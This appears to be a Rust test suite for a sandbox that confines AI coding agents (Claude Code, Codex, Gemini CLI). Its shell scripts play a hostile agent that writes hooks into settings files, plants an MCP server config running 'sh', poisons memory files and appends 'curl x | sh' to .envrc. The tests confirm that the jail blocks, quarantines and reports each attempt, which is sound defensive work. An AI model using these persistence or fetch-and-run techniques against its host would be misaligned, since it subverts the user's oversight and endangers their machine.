//! The jail's own top level of the agents' state directories (`jail::statedir`), tried in a real
//! jail: a settings file your own agent saves by rename during the session never becomes writable
//! in the jail; what the agent makes at the top is never yours during the session and quarantined
//! after it; credentials and history come back, yours win where you changed them; auto memory is
//! read-only, also in a project the agent invents (Claude Code's, Gemini CLI's); Codex's `SQLite`
//! stores are the jail's own, its memories one session's only.

mod common;
use common::*;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

fn wait_for(p: &Path, what: &str) {
    let t0 = Instant::now();
    while !p.exists() {
        assert!(t0.elapsed() < Duration::from_secs(30), "timed out: {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn spawn(f: &Fixture, script: &str, seal: Option<&str>) -> Running {
    let mut cmd = f.cmd(["run", "--", "bash", "-c", script]);
    if let Some(mode) = seal {
        cmd.env("CLAUDE_SANDBOX_SEAL", mode);
    }
    let child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    Running(Some(child))
}

/// Save `path` as an agent outside does: a temporary file beside it, renamed over it.
fn save_by_rename(path: &Path, text: &str) {
    let tmp = path.with_extension(format!("tmp.{}", std::process::id()));
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

#[test]
fn a_settings_file_saved_by_rename_outside_stays_sealed() {
    rename_outside(None);
}

#[test]
fn a_settings_file_saved_by_rename_outside_stays_sealed_when_bwrap_makes_every_mount() {
    rename_outside(Some("bwrap"));
}

/// The agent writes hooks into every settings file in a tight loop while your own agent saves
/// them by rename, 50 times each: nothing the agent wrote may be in the files you end up with.
fn rename_outside(seal: Option<&str>) {
    let f = Fixture::new();
    let files = [
        ".claude/settings.json",
        ".codex/config.toml",
        ".gemini/settings.json",
    ];
    for rel in files {
        std::fs::create_dir_all(f.home.join(rel).parent().unwrap()).unwrap();
        std::fs::write(f.home.join(rel), "{}\n").unwrap();
    }
    let script = r#"touch ready
        n=0
        while [ ! -e go ]; do
          for s in ~/.claude/settings.json ~/.codex/config.toml ~/.gemini/settings.json; do
            echo '{"hooks":"AGENTMARK"}' > "$s" 2>/dev/null && n=$((n+1))
            echo 'AGENTMARK' >> "$s" 2>/dev/null && n=$((n+1))
            mv -f "$s" "$s.gone" 2>/dev/null && n=$((n+1))
          done
        done
        echo "agent writes that landed: $n""#;
    let child = spawn(&f, script, seal);
    wait_for(&f.ws.join("ready"), "the jail's loop");
    for i in 0..50 {
        for rel in files {
            let path = f.home.join(rel);
            save_by_rename(&path, &format!("{{\"yours\":{i}}}\n"));
            std::thread::sleep(Duration::from_millis(1));
            let text = std::fs::read_to_string(&path).unwrap();
            assert!(
                !text.contains("AGENTMARK"),
                "after your rename {i}, {rel} holds the agent's bytes:\n{text}"
            );
        }
    }
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("agent writes that landed: 0"),
        "{}",
        stdout(&out)
    );
    for rel in files {
        let text = std::fs::read_to_string(f.home.join(rel)).unwrap();
        assert_eq!(text, "{\"yours\":49}\n", "{rel}");
        assert!(!f.home.join(format!("{rel}.gone")).exists());
    }
}

#[test]
fn a_new_name_at_the_top_is_never_yours_during_the_session() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.home.join(".claude")).unwrap();
    let child = spawn(
        &f,
        "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > ~/.claude/.config.json && \
         echo plant > ~/.claude/CLAUDE.md.new && touch ready && \
         while [ ! -e go ]; do sleep 0.01; done",
        None,
    );
    wait_for(&f.ws.join("ready"), "the plant");
    assert!(
        !f.home.join(".claude/.config.json").exists(),
        "readable by your agent while the session runs"
    );
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!f.home.join(".claude/.config.json").exists());
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    assert!(
        alerts.contains(".config.json") && alerts.contains("CLAUDE.md.new"),
        "{alerts}"
    );
}

#[test]
fn credentials_and_history_come_back_and_yours_win_where_you_changed_them() {
    let f = Fixture::new();
    let claude = f.home.join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(claude.join(".credentials.json"), "{\"token\":\"old\"}\n").unwrap();
    std::fs::write(claude.join("history.jsonl"), "{\"n\":1}\n").unwrap();
    std::fs::write(claude.join("stats-cache.json"), "{\"s\":1}\n").unwrap();
    let child = spawn(
        &f,
        "w=$PWD; cd ~/.claude && echo '{\"token\":\"new\"}' > .credentials.json.tmp.1a2b && \
         mv .credentials.json.tmp.1a2b .credentials.json && echo '{\"n\":\"jail\"}' >> history.jsonl && \
         echo '{\"s\":\"jail\"}' > stats-cache.json && mkdir todos && echo t > todos/t.json && \
         mkdir x.lock && touch $w/ready && while [ ! -e $w/go ]; do sleep 0.01; done",
        None,
    );
    wait_for(&f.ws.join("ready"), "the jail's writes");
    // Meanwhile your own agent appends to the history and saves its stats.
    let mut h = std::fs::OpenOptions::new()
        .append(true)
        .open(claude.join("history.jsonl"))
        .unwrap();
    std::io::Write::write_all(&mut h, b"{\"n\":\"yours\"}\n").unwrap();
    save_by_rename(&claude.join("stats-cache.json"), "{\"s\":\"yours\"}\n");
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    let read = |n: &str| std::fs::read_to_string(claude.join(n)).unwrap();
    assert_eq!(read(".credentials.json"), "{\"token\":\"new\"}\n");
    // The history is yours, appended in place by both.
    assert_eq!(
        read("history.jsonl"),
        "{\"n\":1}\n{\"n\":\"jail\"}\n{\"n\":\"yours\"}\n"
    );
    assert_eq!(read("stats-cache.json"), "{\"s\":\"yours\"}\n", "yours win");
    assert_eq!(
        read("todos/t.json"),
        "t\n",
        "a new allowlisted directory comes out"
    );
    assert!(!claude.join("x.lock").exists(), "a lock is the session's");
}

#[test]
fn auto_memory_is_read_only_and_transcripts_are_yours() {
    let f = Fixture::new();
    let claude = f.home.join(".claude");
    let mine = claude.join("projects/-somewhere-else");
    std::fs::create_dir_all(mine.join("memory")).unwrap();
    std::fs::write(mine.join("memory/MEMORY.md"), "yours\n").unwrap();
    let slug = f.claude_project();
    let script = format!(
        "p=~/.claude/projects; echo s > $p/{slug}/session.jsonl && echo T; \
         mkdir -p $p/{slug}/memory/x 2>/dev/null || echo R1; \
         echo m > $p/{slug}/memory/MEMORY.md 2>/dev/null || echo R2; \
         ls $p/-somewhere-else >/dev/null 2>&1 || echo HIDDEN; \
         mkdir -p $p/-invented/memory && echo plant > $p/-invented/memory/MEMORY.md && \
         echo t > $p/-invented/t.jsonl && echo PLANTED"
    );
    let out = f.jail(&script);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    for want in ["T", "R1", "R2", "HIDDEN", "PLANTED"] {
        assert!(text.lines().any(|l| l == want), "{want} missing: {text}");
    }
    let project = claude.join("projects").join(&slug);
    assert_eq!(
        std::fs::read_to_string(project.join("session.jsonl")).unwrap(),
        "s\n"
    );
    assert!(
        !project.join("memory").exists(),
        "the read-only stand-in is gone"
    );
    let invented = claude.join("projects/-invented");
    assert!(
        !invented.join("memory").exists(),
        "planted memory reached you"
    );
    assert_eq!(
        std::fs::read_to_string(invented.join("t.jsonl")).unwrap(),
        "t\n"
    );
    assert_eq!(
        std::fs::read_to_string(mine.join("memory/MEMORY.md")).unwrap(),
        "yours\n"
    );
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    assert!(alerts.contains("-invented/memory"), "{alerts}");
}

#[test]
fn codex_keeps_its_sqlite_stores_in_the_jails_own_directory() {
    let f = Fixture::new();
    let codex = f.home.join(".codex");
    std::fs::create_dir_all(&codex).unwrap();
    std::fs::write(codex.join("memories_1.sqlite"), "yours").unwrap();
    let script = "cd \"$CODEX_SQLITE_HOME\" && echo jail >> memories_1.sqlite && echo n > state_5.sqlite-wal && \
         cat memories_1.sqlite; echo x > ~/.codex/memories_1.sqlite 2>/dev/null || echo RO";
    let out = f.jail(script);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "jail\nRO\n");
    // The next session finds its threads' store, and no memories: they steer one session only.
    let out = f.jail("cd \"$CODEX_SQLITE_HOME\" && cat state_5.sqlite-wal && ls");
    assert_eq!(stdout(&out), "n\nstate_5.sqlite-wal\n", "{}", stderr(&out));
    assert_eq!(
        std::fs::read(codex.join("memories_1.sqlite")).unwrap(),
        b"yours"
    );
    assert!(!codex.join("state_5.sqlite-wal").exists());
}

/// In the workspace a seal on a single file loses its bind when your editor replaces the file by
/// rename (the jail must write the directory): it is bound again within milliseconds, and you are
/// told at the end to review what was replaced.
#[test]
fn a_workspace_entry_point_replaced_outside_is_sealed_again_and_alerted() {
    let f = Fixture::new();
    std::fs::write(f.ws.join(".envrc"), "export A=1\n").unwrap();
    std::fs::write(f.ws.join(".npmrc"), "fund=false\n").unwrap();
    let script = "touch ready; while [ ! -e renamed ]; do sleep 0.01; done; sleep 0.5; \
         if echo 'curl x | sh' >> .envrc 2>/dev/null; then echo WROTE; else echo REFUSED; fi; \
         while [ ! -e go ]; do sleep 0.01; done";
    let child = spawn(&f, script, None);
    wait_for(&f.ws.join("ready"), "the session");
    save_by_rename(&f.ws.join(".envrc"), "export A=2\n");
    std::fs::write(f.ws.join(".npmrc"), "fund=true\n").unwrap(); // in place: the seal holds
    std::fs::write(f.ws.join("renamed"), "").unwrap();
    std::fs::write(f.ws.join("go"), "").unwrap();
    let out = child.wait();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "REFUSED\n",
        "the replaced seal was not bound again"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".envrc")).unwrap(),
        "export A=2\n"
    );
    let alerts = stdout(&f.cmd(["alerts", "--json"]).output().unwrap());
    let list: serde_json::Value = serde_json::from_str(&alerts).unwrap();
    let detached: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == "seal-detached")
        .map(|a| a["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        detached,
        vec![f.ws.join(".envrc").to_str().unwrap()],
        "{alerts}"
    );
}

#[test]
fn gemini_keeps_its_project_memory_read_only_and_its_tools_view() {
    let f = Fixture::new();
    let gemini = f.home.join(".gemini");
    std::fs::create_dir_all(gemini.join("tmp/bin")).unwrap();
    std::fs::write(gemini.join("tmp/bin/rg"), "#!/bin/sh\n").unwrap();
    let registry = format!("{{\"projects\":{{\"{}\":\"ws-1\"}}}}\n", f.ws.display());
    std::fs::write(gemini.join("projects.json"), registry).unwrap();
    let script =
        "t=~/.gemini/tmp; mkdir -p $t/ws-1/chats && echo c > $t/ws-1/chats/c.json && echo C; \
         mkdir -p $t/ws-1/memory/skills 2>/dev/null || echo R1; \
         echo m > $t/ws-1/memory/GEMINI.md 2>/dev/null || echo R2; \
         cat $t/bin/rg >/dev/null && echo RG; echo x >> $t/bin/rg 2>/dev/null || echo R3; \
         mkdir -p $t/other/memory && echo plant > $t/other/memory/GEMINI.md && echo PLANTED";
    let out = f.jail(script);
    let text = stdout(&out);
    for want in ["C", "R1", "R2", "RG", "R3", "PLANTED"] {
        assert!(
            text.lines().any(|l| l == want),
            "{want} missing: {text}{}",
            stderr(&out)
        );
    }
    assert_eq!(
        std::fs::read_to_string(gemini.join("tmp/ws-1/chats/c.json")).unwrap(),
        "c\n"
    );
    assert!(!gemini.join("tmp/ws-1/memory").exists());
    assert!(
        !gemini.join("tmp/other/memory").exists(),
        "planted memory reached you"
    );
    assert_eq!(
        std::fs::read_to_string(gemini.join("tmp/bin/rg")).unwrap(),
        "#!/bin/sh\n"
    );
}
